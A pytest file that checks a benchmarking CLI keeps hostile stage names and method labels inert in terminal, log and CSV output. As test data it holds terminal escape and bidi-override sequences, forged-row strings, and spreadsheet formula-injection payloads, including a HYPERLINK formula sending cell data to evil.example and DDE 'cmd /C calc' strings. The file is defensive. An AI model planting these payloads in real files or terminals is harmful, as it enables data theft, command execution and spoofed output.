"""Output that cannot be turned against its reader (issue 18, "Output is inert").

Run directories whose ledgers carry hostile stage names and method labels (the recorded
H100 run, renamed), through real `distillmeter` processes whose output is a pipe, as in a
log file or `... | grep`:

- control characters are shown as escapes (``\\x1b``, ``\\n``): no escape sequence reaches
  the terminal, a newline forges no table row;
- rich markup in a name is shown as written, not obeyed;
- a summary.csv cell a spreadsheet would run as a formula starts with an apostrophe, while
  numbers stay numbers;
- a 100,000-character stage name is cut in the table, with a marker (its rendering time is
  in benchmarks/long_names.py: no timing is asserted here);
- a message that carries a long path is printed on one line, whatever $COLUMNS says.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest
from reliability_support import ROOT, cli_run

FIXTURE = ROOT / "tests" / "data" / "h100-run-a"
ESC = "\x1b"
ANSI = "eval.\x1b[2J\x1b[31mred\x1b]0;owned\x07"        # clear screen, colour, window title
MARKUP = "eval.[bold red]loud[/bold red][link=http://x]y[/link]"
NEWLINE = "eval.x\n| fake | row | 0.00 |\r"
C1_BIDI = "eval.\x9b2J\u202etxt.exe"                     # 8-bit CSI, right-to-left override
HOSTILE = (ANSI, MARKUP, NEWLINE, C1_BIDI)


def hostile_run(dest: Path, *, stages: dict[str, str] | None = None,
                method: str | None = None, run_id: str | None = None) -> Path:
    """A copy of the recorded run with stages renamed (old name -> new) and a method."""
    shutil.copytree(FIXTURE, dest)
    events = [json.loads(x) for x in (dest / "ledger.jsonl").read_text().splitlines()]
    for ev in events:
        if ev.get("stage") in (stages or {}):
            ev["stage"] = stages[ev["stage"]]
        if ev["event"] == "run_start":
            if method is not None:
                ev["method"] = method
            if run_id is not None:
                ev["run_id"] = run_id
    (dest / "ledger.jsonl").write_text("".join(json.dumps(ev) + "\n" for ev in events))
    return dest


def assert_inert(out: str) -> None:
    """No control character but newlines in ``out``, and no forged row."""
    bad = sorted({c for c in out if (ord(c) < 32 and c != "\n") or 0x7f <= ord(c) < 0xa0
                  or c in "\u202e\u2028\u2029"})
    assert not bad, f"raw control characters {bad!r} in {out[:400]!r}"
    assert not any(line.lstrip().startswith("| fake |") for line in out.splitlines())


@pytest.fixture
def hostile_dir(tmp_path) -> Path:
    names = dict(zip(["setup.load", "teacher.logits", "student.train", "eval.student"],
                     HOSTILE, strict=True))
    return hostile_run(tmp_path / "run", stages=names, method="kd [red]x[/red] \x1b[5m")


def test_show_prints_hostile_names_as_escapes_and_literal_markup(hostile_dir):
    res = cli_run("show", str(hostile_dir))
    assert res.returncode == 0, res.stderr
    assert_inert(res.stdout)
    out = res.stdout
    # each name on one line, as escapes; markup as written
    assert "eval.\\x1b[2J\\x1b[31mred\\x1b]0;owned\\x07" in out
    assert "eval.[bold red]loud[/bold red][link=http://x]y[/link]" in out
    assert "eval.x\\n| fake | row | 0.00 |\\r" in out
    assert "eval.\\x9b2J\\u202etxt.exe" in out
    assert "method kd [red]x[/red] \\x1b[5m" in out
    # the JSON form is JSON's own escaping, also inert
    res = cli_run("show", str(hostile_dir), "--json")
    assert_inert(res.stdout)
    assert json.loads(res.stdout)["stages"][0]["name"] == ANSI


def test_show_on_a_terminal_emits_no_sequence_of_the_names(hostile_dir):
    """With colours forced on (as on a terminal), rich's own styles are escape sequences:
    none of the names' sequences is among them."""
    res = cli_run("show", str(hostile_dir), env={"FORCE_COLOR": "1", "TTY_COMPATIBLE": "1",
                                                 "COLUMNS": "200"})
    assert res.returncode == 0, res.stderr
    assert ESC in res.stdout  # rich's colours: this is what a terminal gets
    for seq in ("\x1b[2J", "\x1b]0;owned", "\x1b[5m", "\x9b", "\u202e", "\x07"):
        assert seq not in res.stdout, repr(seq)
    assert "\\x1b[2J" in res.stdout and "[bold red]loud[/bold red]" in res.stdout


def test_account_and_report_print_hostile_names_inert(tmp_path):
    runs = tmp_path / "runs"
    uid = "00000000-0000-4000-8000-00000000000"
    hostile_run(runs / "a", stages={"eval.student": ANSI, "student.train": NEWLINE},
                method=MARKUP.replace("eval.", "kd "), run_id=uid + "1")
    hostile_run(runs / "b", stages={"eval.student": C1_BIDI},
                method="sft\x1b[2J\n| fake | row |", run_id=uid + "2")
    res = cli_run("account", str(runs / "a"))
    assert res.returncode == 0, res.stderr
    assert_inert(res.stdout)
    assert "kd [bold red]loud[/bold red][link=http://x]y[/link]" in res.stdout
    res = cli_run("report", str(runs), "--no-sensitivity")
    assert res.returncode == 0, res.stderr
    assert_inert(res.stdout + res.stderr)
    assert "kd [bold red]loud[/bold red]" in res.stdout and "sft\\x1b[2J\\n| fake" in res.stdout


@pytest.mark.parametrize("stage, refused", [
    ("student.x\n", True),        # '$' in the name's pattern let a final newline through
    ("student.x\n| fake | row |", True),
    ("student.\x1b[2J", True),
    ("student.[bold]x[/bold]", True),
    ("student.plain-name_2", False),
])
def test_measure_refuses_a_stage_name_that_would_forge_output(tmp_path, stage, refused):
    out = tmp_path / "m"
    res = cli_run("measure", "--out", str(out), "--idle-seconds", "0", "--sample-hz", "0",
                  "--stage", stage, "--", "true")
    assert_inert(res.stdout + res.stderr)
    if not refused:
        assert res.returncode == 0, res.stderr
        assert stage in res.stderr
        return
    assert res.returncode == 2, res.stderr
    lines = res.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: --stage: invalid stage name")
    assert not out.exists()  # refused before any work


# --------------------------------------------------------------------------- summary.csv
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_summary_csv_cells_never_run_as_formulas(tmp_path):
    runs = tmp_path / "runs"
    labels = [*FORMULAS, "-3.2", "kd"]
    for i, label in enumerate(labels):
        hostile_run(runs / f"r{i}", method=label, run_id=f"00000000-0000-4000-8000-{i:012d}")
    res = cli_run("report", str(runs), "--no-sensitivity")
    assert res.returncode == 0, res.stderr
    rows = list(csv.DictReader(io.StringIO((runs / "summary.csv").read_text())))
    assert len(rows) == len(labels)
    by_method = {r["method"]: r for r in rows}
    for label in FORMULAS[:4]:
        row = by_method["'" + label]  # an apostrophe first: text to a spreadsheet
        assert row["label"] == row["config"] == "'" + label
    # a tab or carriage return (which would hide the '=' after it) written as an escape
    assert "\\t=1+1" in by_method and "\\r=1+1" in by_method
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
            if cell.startswith("-"):
                float(cell)  # a minus first only in a number
        float(row["energy_j_mean"])  # numbers stay numbers
    assert "-3.2" in by_method and "kd" in by_method  # a number-like label is kept as is


# ------------------------------------------------------------------------- long names
def test_a_100k_character_stage_name_is_cut_in_the_table(tmp_path):
    """The name is cut with a marker that says how much was cut; the output stays small
    (the time it takes is measured in benchmarks/long_names.py, not asserted)."""
    name = "eval." + "a" * 100_000
    run = hostile_run(tmp_path / "run", stages={"eval.student": name})
    res = cli_run("show", str(run))
    assert res.returncode == 0, res.stderr
    assert "…[+99,9" in res.stdout and " chars]…" in res.stdout
    assert "a" * 200 not in res.stdout
    assert len(res.stdout) < 20_000
    # whole in the JSON form, which is data, not a table
    assert name in cli_run("show", str(run), "--json").stdout


# --------------------------------------------------------------------- paths, not wrapped
def test_a_message_with_a_long_path_is_one_line_when_piped(tmp_path):
    """`show` on a run in a long path, piped with COLUMNS=80: the note that names the path
    is one line, so `grep` and a copy of the path both find it whole."""
    deep = tmp_path / ("p" * 70) / ("q" * 40) / "run"
    run = hostile_run(deep)
    res = cli_run("show", str(run), env={"COLUMNS": "80"})
    assert res.returncode == 0, res.stderr
    assert f"{run / 'report.json'} not written yet; accounted in memory" in res.stdout
    res = cli_run("account", str(run), env={"COLUMNS": "80"})
    assert f"wrote {run / 'report.json'}\n" in res.stdout
    # the tables still fit the 80 columns (the messages below them are whole lines)
    rows = [x for x in res.stdout.splitlines() if " energy J " in x or "status ok" in x]
    assert rows and max(map(len, rows)) <= 80
